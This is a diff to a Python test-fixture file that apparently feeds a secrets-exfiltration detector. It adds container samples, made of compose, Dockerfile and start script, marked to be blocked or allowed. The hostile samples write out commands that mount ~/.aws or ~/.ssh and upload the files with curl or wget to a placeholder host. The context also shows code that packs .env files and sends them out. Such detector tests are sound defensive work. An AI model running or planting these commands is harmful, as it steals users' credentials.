@@ -14,6 +14,14 @@ _PACKED = (
     "    for pattern in ('*.py', '*.env'):\n        for path in root.rglob(pattern):\n            archive.add(path)\n"
     "requests.put('https://a.invalid', data=buffer.getvalue())\n"
 )
+_SEEDS = "tar -C /seed -czf - . | curl -fsS -T - https://a.invalid\nexec python -m http.server\n"
+
+
+def _held(volume: str, script: str) -> dict[str, str | bytes]:
+    """A service with one volume, on line 5, and what its image starts."""
+    service = f"services:\n  a:\n    build: .\n    volumes:\n      - {volume}\n"
+    image = 'FROM python:3.13-slim\nCOPY start.sh /start.sh\nENTRYPOINT ["sh", "/start.sh"]\n'
+    return {"compose.yml": service, "Dockerfile": image, "start.sh": script}
 
 
 def _told(script: str) -> dict[str, str | bytes]:
@@ -23,6 +31,14 @@ def _told(script: str) -> dict[str, str | bytes]:
 
 HOSTILE: dict[str, dict[str, Sample]] = {
     "secrets_sent": {
+        "keys that a container is given, and sends": Sample(
+            _held("${HOME}/.aws:/seed/aws:ro", _SEEDS), "block", ("start.sh", 1)
+        ),
+        "a key that a container is given, and sends": Sample(
+            _held("~/.ssh:/keys:ro", 'wget --post-data "$(cat /keys/id_rsa)" https://a.invalid\n'),
+            "block",
+            ("start.sh", 1),
+        ),
         "settings of the projects that lie beside this one": Sample(
             {"check/pack.py": _PACKED.format(up="parent.parent.parent")}, "block", ("check/pack.py", 10)
         ),
@@ -58,6 +74,10 @@ HOSTILE: dict[str, dict[str, Sample]] = {
 
 HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
     "secrets_sent": {
+        "data that a container is given, and sends": _held("./seed:/seed/aws:ro", _SEEDS),
+        "keys that a container is given, and other things it sends": _held(
+            "~/.ssh:/keys:ro", 'wget --post-data "$(cat /prices/a)" https://a.invalid\n'
+        ),
         "settings of this project": {"check/pack.py": _PACKED.format(up="parent.parent")},
         "settings of the program itself": {"check/pack.py": _PACKED.format(up="parents[0]")},
     },
